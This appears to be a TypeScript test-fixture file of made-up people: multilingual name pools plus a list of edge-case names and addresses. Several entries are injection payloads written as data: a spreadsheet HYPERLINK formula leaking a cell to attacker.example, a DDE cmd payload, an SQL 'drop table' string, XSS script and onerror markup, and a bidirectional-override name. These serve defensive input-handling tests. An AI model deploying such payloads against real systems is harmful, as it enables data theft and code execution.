/**
 * Made-up people. Mail domains are reserved (RFC 2606, 6761), phone numbers
 * lie in ranges nobody holds; any likeness is chance.
 */

/** A part of a name and how it is written in a mail address. */
export type NamePart = readonly [shown: string, ascii: string];

export interface NamePool {
  readonly given: readonly NamePart[];
  readonly family: readonly NamePart[];
}

function plain(names: string): readonly NamePart[] {
  return names.split(' ').map((name) => [name, name.toLowerCase().replace(/[^a-z]/g, '')]);
}

export const namePools = {
  indian: {
    given: plain(
      'Aarav Aditi Ajay Akash Amit Amrita Anand Ananya Anil Anjali Arjun Asha Bhavna Chetan Deepa Deepak Devika Dinesh Divya Farhan Gaurav Geeta ' +
        'Gurpreet Harpreet Harish Imran Indira Ishaan Jaya Jyoti Kabir Kamala Karan Kavita Kiran Kunal Lakshmi Lata Madhav Mahesh Manjeet Meera ' +
        'Mohan Nandini Naveen Neha Nikhil Nisha Omkar Pallavi Parvati Pooja Prakash Priya Rahul Rajesh Rakesh Ravi Rekha Rohan Rukmini Sandeep ' +
        'Sanjay Saraswati Savita Shanta Shreya Simran Sneha Sonia Sunil Sunita Suresh Tanvi Tarun Tejas Uma Usha Varun Vidya Vijay Vikram Vimala Yamini Yash Zara',
    ),
    family: plain(
      'Agarwal Ahluwalia Anand Banerjee Bansal Bhat Bhattacharya Bose Chatterjee Chaudhary Chopra Das Desai Deshmukh Dhillon Dutta Gandhi Ghosh Gill ' +
        'Gopalan Goswami Gowda Gupta Hegde Iyengar Iyer Jadhav Jain Jha Joshi Kamath Kapoor Kaur Khan Khanna Krishnan Kulkarni Kumar Lal Mahajan Malhotra ' +
        'Mehta Menon Mishra Mukherjee Nair Nambiar Narayan Pai Pandey Patel Patil Pillai Prasad Rajan Raman Rao Rathore Reddy Saxena Sen Sethi Shah Sharma ' +
        'Shetty Shukla Singh Sinha Srinivasan Subramaniam Tandon Thakur Trivedi Varghese Varma Verma Wagh Yadav',
    ),
  },
  devanagari: {
    given: [
      ['अनन्या', 'ananya'], ['आरव', 'aarav'], ['दीपक', 'deepak'], ['गीता', 'geeta'], ['हरीश', 'harish'], ['ज्योति', 'jyoti'], ['कविता', 'kavita'],
      ['लक्ष्मी', 'lakshmi'], ['मोहन', 'mohan'], ['नेहा', 'neha'], ['प्रिया', 'priya'], ['राजेश', 'rajesh'], ['सुनीता', 'sunita'], ['विक्रम', 'vikram'], ['श्रेया', 'shreya'],
    ], // prettier-ignore
    family: [
      ['शर्मा', 'sharma'], ['वर्मा', 'verma'], ['कुलकर्णी', 'kulkarni'], ['देशपांडे', 'deshpande'], ['मिश्रा', 'mishra'], ['जोशी', 'joshi'], ['पाटील', 'patil'],
      ['सिंह', 'singh'], ['गुप्ता', 'gupta'], ['यादव', 'yadav'], ['त्रिवेदी', 'trivedi'],
    ], // prettier-ignore
  },
  arabic: {
    given: [
      ['محمد', 'mohammed'], ['فاطمة', 'fatima'], ['عائشة', 'aisha'], ['يوسف', 'yusuf'], ['زينب', 'zainab'], ['عمر', 'omar'], ['مريم', 'maryam'], ['خالد', 'khalid'],
    ], // prettier-ignore
    family: [
      ['الأنصاري', 'alansari'], ['حسن', 'hassan'], ['القرشي', 'alqurashi'], ['صديقي', 'siddiqui'], ['منصور', 'mansour'], ['الهاشمي', 'alhashimi'],
    ], // prettier-ignore
  },
  international: {
    given: [
      ...plain('Alice Benjamin Chloe Daniel Emma Fatou George Hannah Ivan Julia Kwame Lucas Mei Noah Olivia Pedro Quentin Rosa Sofia Thomas'),
      ['Zoë', 'zoe'], ['José', 'jose'], ['Søren', 'soren'], ['Łukasz', 'lukasz'], ['Nguyễn', 'nguyen'], ['明', 'ming'], ['陽子', 'yoko'],
    ], // prettier-ignore
    family: [
      ...plain('Adeyemi Brown Cohen Dubois Fernandes Garcia Hoffmann Ivanova Johansson Kim Lopez Martin Nakamura Okafor Petrov Rossi Schmidt Tanaka Weber'),
      ["O'Neill", 'oneill'], ["D'Souza", 'dsouza'], ['Müller', 'mueller'], ['Åström', 'astrom'], ['Çelik', 'celik'], ['Smith-Jones', 'smith-jones'], ['王', 'wang'],
    ], // prettier-ignore
  },
} as const satisfies Record<string, NamePool>;

/** Somebody whose very name or address is the case; `null` means really `NULL`, absent means made up as for anybody. */
export interface NamedPerson {
  readonly name: string;
  readonly email?: string;
  readonly phone?: string | null;
}

/** The same in every seed: each is a case some screen, export or search once got wrong somewhere. */
export const namedPeople: readonly NamedPerson[] = [
  { name: 'अनुष्का देशपांडे', phone: null },
  { name: 'अ‍ॅड. क्षितिज त्र्यंबक', phone: '+917000012345' },
  { name: 'محمد بن عبد الله الأنصاري' },
  { name: 'نور (Noor) Ahmed' },
  { name: "Siobhán O'Brien-D'Costa", email: "siobhan.o'brien@example.org" },
  { name: "Robert'); drop table users; --", email: 'bobby.tables@example.net' },
  { name: 'Priya 🌸✨ Nair', email: 'priya.blossom@mail.test' },
  { name: '👩🏽‍🚀 Anika 👨‍👩‍👧‍👦' },
  {
    name: `${'Venkatanarasimharajuvaripeta '.repeat(6)}Subrahmanyam Iyer, the elder`
      .slice(0, 200)
      .padEnd(200, 'a'),
  },
  { name: 'क'.repeat(200), phone: null },
  { name: '=HYPERLINK("https://attacker.example/?leak="&A1,"Invoice")', email: 'formula@attacker.test' },
  { name: '+91-CALL-NOW', email: 'plus.name@attacker.test' },
  { name: '@SUM(A1:A9)', email: 'at.sum@attacker.test' },
  { name: "-2+3+cmd|' /C calc'!A0", email: 'dde@attacker.test' },
  { name: '<img src=x onerror="document.title=1">', email: 'markup@attacker.test' },
  { name: '"><script>alert(1)</script>', email: 'script@attacker.test' },
  { name: 'Kavita Rao', email: 'kavita.rao+cloudsingh@example.com' },
  { name: 'Kavita Rao', email: 'kavita.rao+work+2@example.com', phone: null },
  { name: 'Kavita Rao', email: 'KAVITA.RAO@EXAMPLE.COM' },
  { name: 'Kavitha Rao', email: 'Kavitha.Rao@Example.Com' },
  { name: 'X', email: 'x@example.com', phone: null },
  { name: '  Leading and trailing  ', email: 'spaces@example.com' },
  { name: 'Tab\tand "quotes", commas; \\ backslash', email: 'delimiters@example.net' },
  { name: 'Line one\nLine two', email: 'newline@example.net' },
  { name: 'Jose\u0301 decomposed', email: 'jose.decomposed@example.org' },
  { name: 'Jos\u00e9 decomposed', email: 'jose.composed@example.org' },
  { name: '\u202eevil right-to-left\u202c', email: 'bidi@attacker.test' },
  { name: 'Null', email: 'null@example.org' },
  { name: 'Deleted User', email: 'deleted@example.org', phone: null },
  { name: 'தமிழ்ச்செல்வி முருகன்', email: 'tamilselvi@example.com' },
  { name: 'ਗੁਰਪ੍ਰੀਤ ਸਿੰਘ', email: 'gurpreet.punjabi@example.com' },
  { name: 'Ritu 100% Ltd_', email: '100%.wild_card@example.com' },
];

/** The name that many people bear. */
export const commonName = 'Ramesh Kumar';
